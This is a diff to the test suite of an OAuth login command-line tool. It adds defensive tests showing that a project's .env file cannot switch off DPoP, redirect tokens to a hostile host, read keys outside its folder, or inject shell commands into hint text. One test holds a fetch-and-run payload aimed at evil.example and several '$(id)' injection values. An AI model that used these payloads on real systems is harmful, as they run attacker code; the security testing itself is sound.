@@ -12,7 +12,8 @@
  *
  * @module
  */
-import { EXIT, testing } from "../login.ts";
+import { EXIT, fileStorage, testing } from "../login.ts";
+import { serveResourceServer } from "./_resource_server.ts";
 
 const { resolveConfig } = testing;
 const { cacheKey } = testing;
@@ -20,9 +21,11 @@ import {
   CONFIDENTIAL_CLIENT,
   type MockClient,
   type MockIssuer,
+  type MockUser,
   PUBLIC_CLIENT,
   type RecordedRequest,
   type ServedMock,
+  serveMockIssuer,
 } from "./mock_issuer.ts";
 import {
   assertNoLeaks,
@@ -122,8 +125,8 @@ async function entryFiles(home: string): Promise<string[]> {
 async function homeWith(config?: string): Promise<string> {
   const home = await Deno.makeTempDir({ prefix: "oauth-login-trust-" });
   if (config !== undefined) {
-    await Deno.mkdir(`${home}/config/oauth-login`, { recursive: true });
-    await Deno.writeTextFile(`${home}/config/oauth-login/config.toml`, config);
+    await Deno.mkdir(`${home}/config/oauth-login`, { recursive: true, mode: 0o700 });
+    await Deno.writeTextFile(`${home}/config/oauth-login/config.toml`, config, { mode: 0o600 });
   }
   return home;
 }
@@ -427,7 +430,7 @@ Deno.test("the quick start: a .env with its own issuer, client and secret works,
   });
 });
 
-Deno.test("a .env that decides keeps every endpoint it gives on its issuer's host", async (t) => {
+Deno.test("a .env that decides keeps every endpoint it gives on the host where the person signs in", async (t) => {
   await withServers(async (real, evil) => {
     const cases: [string, Record<string, string>, string][] = [
       [
@@ -438,7 +441,7 @@ Deno.test("a .env that decides keeps every endpoint it gives on its issuer's hos
       [
         "no issuer: the real authorization endpoint, and a token endpoint elsewhere",
         { OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token`, OAUTH_AUTHORIZATION_ENDPOINT: `${real.issuer}/authorize` },
-        `error: The authorization endpoint in ${ENV_FILE} is on another host (127.0.0.1:${real.port}) than its token endpoint (127.0.0.1:${evil.port})\n`,
+        `error: The token endpoint in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than its authorization endpoint (127.0.0.1:${real.port})\n`,
       ],
     ];
     for (const [name, dotenv, error] of cases) {
@@ -451,7 +454,7 @@ Deno.test("a .env that decides keeps every endpoint it gives on its issuer's hos
         assertEquals(
           login.stderr,
           error +
-            "hint: a project file's endpoints must be on its issuer's host; if you trust them, pass them as flags\n",
+            "hint: a project file's endpoints must all be on the host where you sign in; if you trust them, pass them as flags\n",
         );
         assertEquals([...real.requests, ...evil.requests], []);
         assertEquals(login.opened, []);
@@ -753,16 +756,16 @@ Deno.test("doctor says who decided where credentials go, what of the .env was ig
         delete real.metadata.token_endpoint;
       }
     });
-    await t.step("the same, from an issuer a .env chose: worth a look", async () => {
+    await t.step("the same, from an issuer a .env chose: refused, as login refuses it", async () => {
       real.metadata.userinfo_endpoint = `${evil.issuer}/userinfo`;
       try {
         const doctor = await run(["doctor"], inRepo({ OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }));
         assertStringIncludes(
           doctor.stdout,
           line(
-            "warn",
+            "fail",
             "discovery",
-            `the issuer's metadata puts userinfo_endpoint on 127.0.0.1:${evil.port}: normal for some providers, as the issuer names them`,
+            `The issuer ${real.issuer}, from a project file (.env), sends you to 127.0.0.1:${real.port} to sign in but sends your tokens to 127.0.0.1:${evil.port} (if you trust this server, set OAUTH_ISSUER in the environment or pass --issuer)`,
           ),
         );
         assertEquals(doctor.stderr, note(real.issuer));
@@ -818,5 +821,555 @@ Deno.test("resolveConfig() decides the destination by one kind of source as a wh
       assertEquals(config.clientSecret, undefined, "a .env's secret goes only with its own destination");
       if (dotenv.OAUTH_CLIENT_AUTH) assertEquals(config.clientAuth, undefined);
     });
+  }
+});
+
+// ── A .env turns no protection off (red team, finding 7) ───────────────────────────────────────
+
+Deno.test("a .env cannot turn off DPoP that the person's profile or environment turns on", async (t) => {
+  const cli = { command: "login" as const, named: true, flags: {} };
+  const profile = {
+    name: "work",
+    path: "/home/alice/.config/oauth-login/config.toml",
+    chosenBy: "default_profile",
+    flags: { issuer: "https://idp.example.com", "client-id": "cli", dpop: true },
+  };
+  await t.step("resolveConfig() keeps the profile's dpop = true over the .env's OAUTH_DPOP=0", () => {
+    const config = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "0" }, profile);
+    assertEquals({ dpop: config.dpop, from: config.sources.dpop }, { dpop: true, from: "profile" });
+    assertEquals(config.trust!.kept, [{ name: "OAUTH_DPOP", by: 'dpop in the profile "work"' }]);
+    // Turning it on is the .env's to do; and where nothing of the person's turns it on, off is the .env's too.
+    const on = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "1" }, {
+      ...profile,
+      flags: { ...profile.flags, dpop: false },
+    });
+    assertEquals({ dpop: on.dpop, kept: on.trust!.kept }, { dpop: true, kept: [] });
+    const plain = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "0" }, {
+      ...profile,
+      flags: { issuer: "https://idp.example.com", "client-id": "cli" },
+    });
+    assertEquals({ dpop: plain.dpop, kept: plain.trust!.kept }, { dpop: false, kept: [] });
+  });
+  await t.step("the login is DPoP-bound, and says the .env's OAUTH_DPOP was ignored", async () => {
+    await withMock(async (real) => {
+      const home = await homeWith(
+        `default_profile = "work"\n[work]\nissuer = "${real.issuer}"\nclient_id = "${PUBLIC_CLIENT.id}"\ndpop = true\n`,
+      );
+      real.metadata.dpop_signing_alg_values_supported = ["ES256"]; // a server that offers DPoP
+      const login = await run(["login"], inRepo({ OAUTH_DPOP: "0" }, { home, browser: scriptedBrowser }));
+      const token = real.requests.filter((r) => r.path === "/token");
+      assertEquals(
+        token.map((r) => typeof r.headers.dpop),
+        ["string"],
+        `the token request carries a DPoP proof: ${login.stderr}`,
+      );
+      assertStringIncludes(
+        login.stderr,
+        `warning: Ignoring OAUTH_DPOP in ${ENV_FILE}: a project file cannot turn off DPoP, which dpop in the profile "work" turns on\n`,
+      );
+      await cleanUp(login);
+    });
+  });
+  await t.step("the environment's OAUTH_DPOP=1 is kept too, and doctor says so", async () => {
+    const doctor = await run(
+      ["doctor", "--issuer", "https://idp.example.com", "--client-id", "c"],
+      inRepo({ OAUTH_DPOP: "0" }, { env: { OAUTH_DPOP: "1" }, fetch: () => Promise.reject(new Error("offline")) }),
+    );
+    assertStringIncludes(
+      doctor.stdout,
+      `warn  config     Ignoring OAUTH_DPOP in ${ENV_FILE}: a project file cannot turn off DPoP, which OAUTH_DPOP in the environment turns on\n`,
+    );
+    await cleanUp(doctor);
+  });
+});
+
+// ── A .env chooses no grant for the person's own client (outsider attack 2, finding 1) ─────────
+
+Deno.test("a .env cannot choose the grant the person's own client and secret are used for: token and exec sign no service token in", async (t) => {
+  const project = { OAUTH_GRANT: "client_credentials", OAUTH_SCOPE: "admin" };
+  const expected = (issuer: string) =>
+    ignoring("OAUTH_GRANT", "OAUTH_ISSUER in the environment", true) +
+    `error: No cached token for ${issuer}\n` +
+    'hint: run "oauth-login login" (or pass --interactive to let this command sign you in)\n';
+  await t.step("token", async () => {
+    await withMock(async (mock) => {
+      const result = await run(["token"], inRepo(project, { env: ownEnv(mock) }));
+      assertEquals([result.code, result.stdout, result.stderr], [EXIT.loginRequired, "", expected(mock.issuer)]);
+      assertEquals(mock.requests, [], "the person's secret was used for no grant");
+      await cleanUp(result);
+    });
+  });
+  await t.step("exec: the project's program is not run", async () => {
+    await withMock(async (mock) => {
+      const ran: string[] = [];
+      const result = await run(
+        ["exec", "--", "./deploy.sh"],
+        inRepo(project, { env: ownEnv(mock), runProgram: (command) => Promise.resolve(ran.push(command) && 0) }),
+      );
+      assertEquals([result.code, result.stderr], [EXIT.loginRequired, expected(mock.issuer)]);
+      assertEquals([ran, mock.requests], [[], []]);
+      await cleanUp(result);
+    });
+  });
+  await t.step("the grant of a .env that decides the server is its own, with its own client", async () => {
+    await withMock(async (mock) => {
+      const result = await run(
+        ["token"],
+        inRepo({
+          ...project,
+          OAUTH_ISSUER: mock.issuer,
+          OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id,
+          OAUTH_CLIENT_SECRET: SECRET,
+        }),
+      );
+      assertEquals(result.code, EXIT.ok, result.stderr);
+      assertEquals(mock.calls("token").map((r) => [r.form.grant_type, r.form.scope]), [[
+        "client_credentials",
+        "admin",
+      ]]);
+      await cleanUp(result);
+    });
+  });
+});
+
+// ── A .env that names a preset, or mixes one with its own server (red team, finding 1) ─────────
+
+const OCTOCAT: MockUser = { sub: "u-1", username: "octocat", email: "octocat@example.com", name: "Octocat" };
+
+/** A well-known public OAuth app (as GitHub CLI's is): the person may have approved it before. */
+const WELL_KNOWN_APP: MockClient = {
+  id: "well-known-cli-app",
+  auth: "none",
+  redirectUris: ["http://127.0.0.1/callback"],
+};
+
+/** A GitHub stand-in (no discovery, GitHub's paths and dialect), as tests/providers_test.ts has it. */
+function github(client: MockClient = WELL_KNOWN_APP): ServedMock {
+  return serveMockIssuer({
+    user: OCTOCAT,
+    clients: [client],
+    discovery: "none",
+    issParameter: false,
+    paths: {
+      authorize: "/login/oauth/authorize",
+      token: "/login/oauth/access_token",
+      device_authorization: "/login/device/code",
+      device: "/login/device",
+    },
+    dialect: { status200Errors: true, scopeSeparator: ",", tokenType: "bearer", omitExpiresIn: true },
+    whoAmI: { path: "/user", body: () => ({ login: "octocat", id: 1 }) },
+  });
+}
+
+/** The real GitHub (github.com is it, through `presetBase`) and a project's server relaying to it. */
+async function withGithub(fn: (real: ServedMock, evil: ServedMock) => Promise<void>): Promise<void> {
+  const real = github();
+  try {
+    await withMock(async (evil) => {
+      evil.intercept = relayTo(real);
+      await fn(real, evil);
+    });
+  } finally {
+    await real.close();
+  }
+}
+
+const MIXING_HINT = "hint: a project file cannot mix a provider preset's endpoints with an issuer or endpoints of " +
+  "its own on another host; if you trust them, pass them as flags\n";
+
+Deno.test("a .env naming the github preset and its own token endpoint is refused before anything is sent", async (t) => {
+  await withGithub(async (real, evil) => {
+    const dotenv = {
+      OAUTH_PROVIDER: "github",
+      OAUTH_CLIENT_ID: WELL_KNOWN_APP.id,
+      OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/login/oauth/access_token`,
+    };
+    const refusal = `error: The token endpoint in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than ` +
+      `the github preset's authorization endpoint (127.0.0.1:${real.port})\n` + MIXING_HINT;
+    const presetBase = new URL(real.issuer).origin; // github.com is the real (loopback) GitHub here
+    for (
+      const [name, env] of [
+        ["the browser flow: the code and the verifier would go to the project's server", {}],
+        ["over SSH, the device flow: the device code would", {
+          DISPLAY: "",
+          SSH_CONNECTION: "10.0.0.2 5555 10.0.0.1 22",
+        }],
+      ] as const
+    ) {
+      await t.step(name, async () => {
+        const login = await run(["login"], inRepo(dotenv, { env, presetBase, browser: scriptedBrowser }));
+        assertEquals(login.code, EXIT.usage, login.stderr);
+        assertEquals(login.stderr, refusal);
+        assertEquals([...real.requests, ...evil.requests], []);
+        assertEquals(login.opened, []);
+        await cleanUp(login);
+      });
+    }
+    await t.step("doctor shows the refusal", async () => {
+      const doctor = await run(["doctor"], inRepo(dotenv, { presetBase }));
+      assertStringIncludes(doctor.stdout, `fail  config     ${refusal.slice(7, -1).replace("\nhint: ", " (")})\n`);
+      assertEquals(evil.requests, []);
+      await cleanUp(doctor);
+    });
+  });
+});
+
+Deno.test("a .env's own authorization endpoint cannot be combined with the github preset's other endpoints", async () => {
+  await withGithub(async (real, evil) => {
+    const login = await run(
+      ["login"],
+      inRepo(
+        {
+          OAUTH_PROVIDER: "github",
+          OAUTH_CLIENT_ID: WELL_KNOWN_APP.id,
+          OAUTH_AUTHORIZATION_ENDPOINT: `${evil.issuer}/login/oauth/authorize`,
+        },
+        { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
+      ),
+    );
+    assertEquals(login.code, EXIT.usage, login.stderr);
+    assertEquals(
+      login.stderr,
+      `error: The github preset's token endpoint is on another host (127.0.0.1:${real.port}) than the ` +
+        `authorization endpoint in ${ENV_FILE} (127.0.0.1:${evil.port})\n` + MIXING_HINT,
+    );
+    assertEquals([...real.requests, ...evil.requests], []);
+    await cleanUp(login);
+  });
+});
+
+Deno.test("a .env's issuer cannot be combined with the github preset (its tokens would reach the issuer's endpoints)", async () => {
+  await withGithub(async (real, evil) => {
+    // The project's "issuer" would serve metadata only: the preset's endpoints replace its authorization
+    // and token endpoints, and its introspection, revocation and UserInfo endpoints would stay.
+    const login = await run(
+      ["login"],
+      inRepo(
+        { OAUTH_ISSUER: evil.issuer, OAUTH_PROVIDER: "github", OAUTH_CLIENT_ID: WELL_KNOWN_APP.id },
+        { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
+      ),
+    );
+    assertEquals(login.code, EXIT.usage, login.stderr);
+    assertEquals(
+      login.stderr,
+      `error: The issuer in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than the github preset's ` +
+        `authorization endpoint (127.0.0.1:${real.port})\n` + MIXING_HINT,
+    );
+    assertEquals([...real.requests, ...evil.requests], []);
+    await cleanUp(login);
+  });
+});
+
+Deno.test("a .env's issuer whose metadata sends the browser to a real provider keeps no endpoint of its own", async (t) => {
+  // Each endpoint that receives something, left on the project's server while the browser signs in at the real one.
+  const members: [string, string, string][] = [
+    ["token_endpoint", "/token", "takes the code at"],
+    ["device_authorization_endpoint", "/device_authorization", "takes the device code at"],
+    ["pushed_authorization_request_endpoint", "/par", "takes the authorization request at"],
+    ["introspection_endpoint", "/introspect", "sends your tokens to"],
+    ["revocation_endpoint", "/revoke", "sends your tokens to"],
+    ["userinfo_endpoint", "/userinfo", "sends your tokens to"],
+  ];
+  await withServers(async (real, evil) => {
+    for (const [member, path, receives] of members) {
+      await t.step(member, async () => {
+        for (const [other, otherPath] of members) evil.metadata[other] = `${real.issuer}${otherPath}`;
+        evil.metadata.authorization_endpoint = `${real.issuer}/authorize`;
+        evil.metadata[member] = `${evil.issuer}${path}`;
+        const login = await run(
+          ["login"],
+          inRepo({ OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }, { browser: scriptedBrowser }),
+        );
+        assertEquals(login.code, EXIT.usage, login.stderr);
+        assertEquals(
+          login.stderr,
+          note(evil.issuer) +
+            `error: The issuer ${evil.issuer}, from a project file (.env), sends you to 127.0.0.1:${real.port} to sign in but ${receives} 127.0.0.1:${evil.port}\n` +
+            "hint: if you trust this server, set OAUTH_ISSUER in the environment or pass --issuer\n",
+        );
+        assertEquals(real.requests, [], "nothing reached the real provider");
+        assertEquals(evil.requests.map((r) => r.path), ["/.well-known/oauth-authorization-server"]);
+        evil.requests.length = 0;
+        await cleanUp(login);
+      });
+    }
+  }, { relay: false });
+});
+
+Deno.test("a preset a .env names is used as a whole, on each of the provider's own hosts (Preset.hosts)", async (t) => {
+  await t.step("github, with no issuer: github.com and api.github.com", async () => {
+    await withGithub(async (real, evil) => {
+      const login = await run(
+        ["login"],
+        inRepo(
+          { OAUTH_PROVIDER: "github", OAUTH_CLIENT_ID: WELL_KNOWN_APP.id },
+          { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
+        ),
+      );
+      assertEquals(login.code, EXIT.ok, login.stderr);
+      assertStringIncludes(login.stderr, "Logged in as octocat\n");
+      assertEquals(evil.requests, []);
+      await cleanUp(login);
+    });
+  });
+  // Google's real metadata: the browser on accounts.google.com, the code and the tokens on googleapis.com.
+  const google = {
+    issuer: "https://accounts.google.com",
+    authorization_endpoint: "https://accounts.google.com/o/oauth2/v2/auth",
+    device_authorization_endpoint: "https://oauth2.googleapis.com/device/code",
+    token_endpoint: "https://oauth2.googleapis.com/token",
+    userinfo_endpoint: "https://openidconnect.googleapis.com/v1/userinfo",
+    revocation_endpoint: "https://oauth2.googleapis.com/revoke",
+    jwks_uri: "https://www.googleapis.com/oauth2/v3/certs",
+  };
+  const cli = { command: "login" as const, named: true, flags: {} };
+  for (
+    const [name, dotenv] of [
+      ["google, named by OAUTH_PROVIDER", { OAUTH_PROVIDER: "google", OAUTH_CLIENT_SECRET: "s" }],
+      ["google, named by its issuer (the preset inferred)", {
+        OAUTH_ISSUER: "https://accounts.google.com",
+        OAUTH_CLIENT_SECRET: "s",
+      }],
+    ] as const
+  ) {
+    await t.step(name, () => {
+      const config = resolveConfig(cli, () => undefined, { ...dotenv, OAUTH_CLIENT_ID: "c" });
+      assertEquals({ decidedBy: config.trust!.decidedBy, provider: config.provider }, {
+        decidedBy: ".env",
+        provider: "google",
+      });
+      testing.checkProjectMetadata(google as never, config);
+      // Any host that is not Google's is refused, the token endpoint's as the UserInfo endpoint's.
+      for (const member of ["token_endpoint", "userinfo_endpoint"]) {
+        let refused = "";
+        try {
+          testing.checkProjectMetadata(
+            { ...google, [member]: "https://oauth2.googleapis.com.evil.example/x" } as never,
+            config,
+          );
+        } catch (error) {
+          refused = (error as Error).message;
+        }
+        assertStringIncludes(refused, "oauth2.googleapis.com.evil.example");
+      }
+    });
+  }
+});
+
+// ── A .env's client key is the project's own (red team, finding 8) ─────────────────────────────
+
+Deno.test("a .env's client key must be in the .env's own folder: not elsewhere, not through .. or a link", async (t) => {
+  // The person's own private key (mkcert's rootCA-key.pem is PKCS#8 and owner-only, like this one), outside the project.
+  const home = await Deno.makeTempDir({ prefix: "oauth-login-trust-home-" });
+  const project = await Deno.makeTempDir({ prefix: "oauth-login-trust-project-" });
+  try {
+    const own = await clientKeyFile(home);
+    await Deno.mkdir(`${project}/keys`);
+    await Deno.symlink(own, `${project}/keys/link.pem`);
+    const projectKey = await clientKeyFile(`${project}/keys`);
+    const envFile = `"${project}/.env"`;
+    const refused = (value: string, why: string) =>
+      `error: The client key "${value}" in ${envFile} ${why}\n` +
+      "hint: a project file may only name a key in its own folder; for a key of yours, pass --client-key or set OAUTH_CLIENT_KEY in the environment\n";
+    const cases: [string, string, string][] = [
+      ["an absolute path outside the project", own, `is outside the project's folder (${project})`],
+      [
+        "a relative path through ..",
+        `keys/../../${own.split("/").slice(-2).join("/")}`,
+        `is outside the project's folder (${project})`,
+      ],
+      [
+        "a link in the project to a key outside it",
+        "keys/link.pem",
+        "is a link to a file outside the project's folder",
+      ],
+    ];
+    for (const [name, value, why] of cases) {
+      await t.step(name, async () => {
+        await withMock(async (evil) => {
+          evil.clients.push({ id: "proj", auth: "none", redirectUris: ["http://127.0.0.1/callback"] });
+          const dotenv = { OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: "proj", OAUTH_CLIENT_KEY: value };
+          const login = await run(["login"], { cwd: project, files: { ".env": dotenv }, browser: scriptedBrowser });
+          const shown = why.startsWith("is a link") ? `${project}/${value}` : value;
+          assertEquals(evil.requests, [], "nothing reached the project's server");
+          assertEquals(login.code, EXIT.usage, login.stderr);
+          assertEquals(login.stderr, refused(shown, why));
+          await cleanUp(login);
+          const doctor = await run(["doctor"], { cwd: project, files: { ".env": dotenv } });
+          assertStringIncludes(
+            doctor.stdout,
+            `fail  config     ${refused(shown, why).slice(7, -1).replace("\nhint: ", " (")})\n`,
+          );
+          await cleanUp(doctor);
+        });
+      });
+    }
+    await t.step("a key in the project's folder, named relative to it, signs for the project's server", async () => {
+      await withMock(async (evil) => {
+        evil.clients.push({ id: "proj", auth: "none", redirectUris: ["http://127.0.0.1/callback"] });
+        const dotenv = { OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: "proj", OAUTH_CLIENT_KEY: "keys/client.pem" };
+        assertEquals(projectKey, `${project}/keys/client.pem`);
+        const login = await run(["login"], { cwd: project, files: { ".env": dotenv }, browser: scriptedBrowser });
+        assertEquals(login.code, EXIT.ok, login.stderr);
+        assertEquals(evil.calls("token").map((r) => typeof r.form.client_assertion), ["string"]);
+        await cleanUp(login);
+      });
+    });
+  } finally {
+    await Deno.remove(home, { recursive: true });
+    await Deno.remove(project, { recursive: true });
+  }
+});
+
+// ── A hint to paste into a shell runs nothing (red team, finding 11) ───────────────────────────
+
+Deno.test("login.ts puts no value into a suggested command but through shellWord, except fixed names and numbers", async () => {
+  const source = await Deno.readTextFile(new URL("../login.ts", import.meta.url));
+  // `--flag ${…}` or `--flag=${…}`, the value not shellWord(…): each is a fixed name or a number, listed here.
+  const fixed = [
+    "--client-auth ${other}", // one of CLIENT_AUTH_METHODS
+    "--allow-run=${program}", // a permission message naming the program this tool runs
+    "--allow-run=${tool}", // the keychain tool's fixed name
+    "--label=${label}", // an argument of secret-tool, not a hint
+    '--grant ${grants.join(" or ")}', // grant names, in a message
+    "--grant ${grant}", // a grant name, in a message
+    "--max-age ${", // a number of seconds
+  ];
+  const unquoted = [...source.matchAll(/--[a-z-]+[ =]\$\{(?!\s*shellWord\()[^}]*\}?/g)].map((m) => m[0])
+    .filter((text) => !fixed.some((ok) => text.startsWith(ok)));
+  assertEquals(unquoted, [], "a value in a suggested command that is not one shell word");
+});
+
+/**
+ * The shell word right after `prefix` in `text`, read as a POSIX shell reads it: characters no shell
+ * acts on, or a single-quoted string (`'\''` for a quote inside); undefined when it is neither.
+ */
+function shellWordAfter(text: string, prefix: string): string | undefined {
+  const at = text.indexOf(prefix);
+  if (at < 0) return undefined;
+  const rest = text.slice(at + prefix.length);
+  const quoted = rest.match(/^'[^']*'(?:\\''[^']*')*/)?.[0];
+  if (quoted) return quoted.slice(1, -1).replaceAll("'\\''", "'");
+  return rest.match(/^[\w.:/@%+=,-]+/)?.[0];
+}
+
+Deno.test("every value in a hint's command is one shell word, wherever it came from (a server, a .env, a path)", async (t) => {
+  const payload = "$(curl -s https://evil.example/x|sh)";
+  const inPath = "$(curl -s evil.example|sh)"; // a file name holds no slash
+  const home = await homeWith();
+  try {
+    const cases: [string, () => Promise<{ stderr: string }>, string, string][] = [];
+    // Each case: what to run, the prefix of the command in its hint, and the value the shell must read.
+    await t.step("a server's issuer in the --issuer of an issuer mismatch", async () => {
+      await withMock(async (mock) => {
+        const said = `${mock.issuer}/${payload}`;
+        mock.metadata.issuer = said;
+        const result = await run(["login", "--issuer", mock.issuer, "--client-id", PUBLIC_CLIENT.id]);
+        assertEquals(result.code, EXIT.usage, result.stderr);
+        assertEquals(shellWordAfter(result.stderr, "use --issuer "), said, result.stderr);
+        await cleanUp(result);
+      });
+    });
+    const key = `${home}/k ${inPath}.pem`;
+    await Deno.writeTextFile(key, "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\n", { mode: 0o640 });
+    await Deno.chmod(key, 0o640);
+    const cache = `${home}/cache ${inPath}`;
+    await Deno.mkdir(cache, { mode: 0o777 });
+    await Deno.chmod(cache, 0o777);
+    cases.push(
+      [
+        "a .env's token endpoint in --save-profile's hint",
+        () =>
+          run(
+            ["login", "--save-profile", "p"],
+            inRepo({
+              OAUTH_TOKEN_ENDPOINT: `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
+              OAUTH_CLIENT_ID: "c",
+            }, {
+              home,
+            }),
+          ),
+        "name it yourself: --token-endpoint ",
+        `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
+      ],
+      [
+        "a client key's path in chmod",
+        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { env: { OAUTH_CLIENT_KEY: key } }),
+        "chmod 600 ",
+        key,
+      ],
+      [
+        "the cache folder's path in chmod",
+        () =>
+          run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { storage: () => fileStorage(cache) }),
+        "chmod 700 ",
+        cache,
+      ],
+      [
+        "an API's origin in --resource",
+        () =>
+          run([
+            "fetch",
+            "--issuer",
+            "https://idp.example",
+            "--client-id",
+            "c",
+            "--resource",
+            "https://api.example/",
+            "https://a$(id).example/",
+          ]),
+        "add --resource ",
+        "https://a$(id).example",
+      ],
+      [
+        "an issuer with a query, in the --issuer to use instead",
+        () => run(["login", "--issuer", `https://idp.example/$(id)?x=1`, "--client-id", "c"]),
+        "e.g. --issuer ",
+        "https://idp.example/$(id)",
+      ],
+      [
+        "a value that starts with -, in --scope=",
+        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c", "--scope", "-$(id)"]),
+        "write --scope=",
+        "-$(id)",
+      ],
+    );
+    const pastedIss = `https://evil.example/ ${payload}`;
+    cases.push([
+      "a pasted callback address's iss (the server's choice) in the --issuer to use",
+      () =>
+        run([
+          "login",
+          "--issuer",
+          `https://idp.example/callback?code=abc&state=xyz&iss=${encodeURIComponent(pastedIss)}`,
+          "--client-id",
+          "c",
+        ]),
+      "(iss): use --issuer ",
+      new URL(pastedIss).href,
+    ]);
+    await t.step("the server an API's metadata named, in the --issuer of the no-client hint", async () => {
+      const mock = serveMockIssuer({ path: `/t${payload.replaceAll(" ", "")}`, registration: false });
+      const api = serveResourceServer({ authorizationServers: [mock.issuer], verify: () => undefined });
+      try {
+        const result = await run(["fetch", api.url], { browser: scriptedBrowser, interactive: true });
+        assertEquals(result.code, EXIT.usage, result.stderr);
+        assertEquals(shellWordAfter(result.stderr, "keep it in a profile with --issuer "), mock.issuer, result.stderr);
+        await cleanUp(result);
+      } finally {
+        await api.close();
+        await mock.close();
+      }
+    });
+    for (const [name, go, prefix, value] of cases) {
+      await t.step(name, async () => {
+        const result = await go();
+        const hint = result.stderr.split("\n").find((line) => line.startsWith("hint:")) ?? "";
+        assertEquals(shellWordAfter(hint, prefix), value, result.stderr);
+        if ("home" in result && result.home !== home) await cleanUp(result as Awaited<ReturnType<typeof run>>);
+      });
+    }
+  } finally {
+    await Deno.remove(home, { recursive: true });
   }
 });
